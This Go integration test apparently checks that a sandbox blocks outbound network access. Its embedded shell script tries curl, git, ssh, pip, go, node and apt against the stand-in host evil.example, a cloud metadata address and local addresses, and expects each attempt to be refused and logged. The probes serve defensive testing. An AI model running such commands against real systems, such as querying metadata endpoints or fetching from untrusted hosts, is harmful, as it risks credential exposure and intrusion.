package integration

import (
	"net"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/claude-bottle/claude-bottle/test/bottletest"
)

// refusedTools tries hosts that are not allowed, or lead nowhere, with one tool
// a line: it says how each ended, on one line. What must not take long is cut
// off with exit code 124.
const refusedTools = `
run() { local what=$1 said; shift; said=$(timeout 300 "$@" 2>&1); echo "$what: exit $?," $said; }
export GOROOT=$PWD/go GOPATH=/tmp/go GOCACHE=/tmp/cache GOTOOLCHAIN=local GOFLAGS=-mod=mod GIT_TERMINAL_PROMPT=0
run curl.denied curl -sS https://evil.example/
run curl.plain curl -sS http://evil.example/
run curl.port curl -sS http://$NAME:8080/
run curl.address curl -sS http://93.184.215.14/
run curl.metadata curl -sS http://169.254.169.254/latest/meta-data/
run curl.private curl -sSk https://$NAME/
run curl.private80 curl -sS -w ' %{http_code}' http://$NAME/
run curl.secure curl -sSk https://$NAME:$SECURE/
run curl.other curl -sS http://$NAME:$PLAIN/
run curl.nowhere curl -sS https://nowhere.invalid/
run curl.nowhere80 curl -sS -w ' %{http_code}' http://nowhere.invalid/
run git.denied git ls-remote https://evil.example/x
run git.private git -c http.sslVerify=false ls-remote https://$NAME/x
run ssh.denied ssh -o BatchMode=yes evil.example
run pip.denied python3 pip.whl/pip download --retries 1 --index-url https://evil.example/simple/ lamp
run go.denied env GOPROXY=https://evil.example go/bin/go mod download example.org/lamp@v1.0.0
run go.private env GOPROXY=https://$NAME go/bin/go mod download example.org/lamp@v1.0.0
run node.denied node -e 'fetch("https://evil.example/").catch(e => { console.log(e.cause.code); process.exit(3) })'
run node.private node -e 'fetch("https://'$NAME'/").catch(e => { console.log(e.cause.code); process.exit(3) })'
run node.resolve node -e 'require("dns").resolve4("evil.example", e => { console.log(e.code); process.exit(4) })'
mkdir -p /tmp/apt/lists/partial /tmp/apt/cache/archives/partial
echo "deb [trusted=yes] http://evil.example/debian bookworm main" > /tmp/apt/sources.list
run apt.denied apt-get -o Dir::State=/tmp/apt -o Dir::Cache=/tmp/apt/cache -o Dir::Etc::SourceList=/tmp/apt/sources.list -o Dir::Etc::SourceParts=/dev/null \
	-o Debug::NoLocking=1 -o APT::Sandbox::User=claude update --error-on=any
`

func TestT36_T37_F31_ToolsAreToldAtOnceThatTheyGetNowhere(t *testing.T) {
	name, address := bottletest.OwnName(t)
	onEachRuntime(t, func(t *testing.T, u *bottletest.User, runtime string) {
		secure, plain := serve(t, address+":0", true), serve(t, address+":0", false)
		_, securePort, _ := net.SplitHostPort(secure.Addr().String())
		_, plainPort, _ := net.SplitHostPort(plain.Addr().String())
		pip(t, u)
		copyGo(t, u)
		// The host is allowed, but not the address that it has: that is this
		// machine's. nowhere.invalid is allowed, and is not there.
		allow := `egress: {allow: ["` + strings.Join([]string{name, name + ":" + securePort, name + ":" + plainPort, "nowhere.invalid"}, `", "`) + `"]}`
		said := script(t, u, runtime, allow, "NAME="+name+" SECURE="+securePort+" PLAIN="+plainPort+refusedTools)
		lines := map[string]string{}
		for line := range strings.Lines(said) {
			what, how, _ := strings.Cut(strings.TrimSpace(line), ": ")
			lines[what] = how
		}
		for what, want := range map[string][]string{
			"curl.denied":    {"exit 6, ", "Could not resolve host: evil.example"},
			"curl.plain":     {"exit 6, ", "Could not resolve host: evil.example"},
			"curl.port":      {"exit 7, ", "connect"},
			"curl.address":   {"exit 7, ", "connect"},
			"curl.metadata":  {"exit 7, ", "connect"},
			"curl.private":   {"exit 35, ", "alert access denied"},
			"curl.private80": {"exit 0, ", "^exit 0, claude-bottle: " + name + " resolves to an address of this host: permission denied", " 403$"},
			// A reset, which curl may meet at any of its steps.
			"curl.secure":  {"exit (7|35|55|56), "},
			"curl.other":   {"exit (7|55|56), "},
			"curl.nowhere": {"exit (7|35|55|56), "},

			"curl.nowhere80": {"exit 0, ", "claude-bottle: resolve nowhere.invalid: there is no such host", " 502$"},

			"git.denied":   {"exit 128, ", "Could not resolve host: evil.example"},
			"git.private":  {"exit 128, ", "Access was denied|alert access denied"},
			"ssh.denied":   {"exit 255, ", "Could not resolve hostname evil.example"},
			"pip.denied":   {"exit 1, ", "Name or service not known", "No matching distribution found for lamp"},
			"go.denied":    {"exit 1, ", "lookup evil.example", "no such host"},
			"go.private":   {"exit 1, ", "tls: access denied"},
			"node.denied":  {"exit 3, ENOTFOUND"},
			"node.private": {"exit 3, ERR_SSL_TLSV1_ALERT_ACCESS_DENIED"},
			"node.resolve": {"exit 4, ENOTFOUND"},
			"apt.denied":   {"exit 100, ", "Could not resolve 'evil.example'"},
		} {
			for _, part := range want {
				if !regexp.MustCompile(part).MatchString(lines[what]) {
					t.Errorf("%s: %q is missing in %q", what, part, lines[what])
				}
			}
		}
		if secure.bytes()+plain.bytes() != 0 {
			t.Errorf("T35: %d bytes arrived", secure.bytes()+plain.bytes())
		}
		refused := refusals(t, u)
		slices.Sort(refused)
		want := []string{"dial " + name + ":443", "dial " + name + ":80", "dial " + name + ":" + plainPort, "dial " + name + ":" + securePort, "name evil.example"}
		slices.Sort(want)
		if !slices.Equal(refused, want) {
			t.Errorf("the audit log has %q, want %q", refused, want)
		}
	})
}
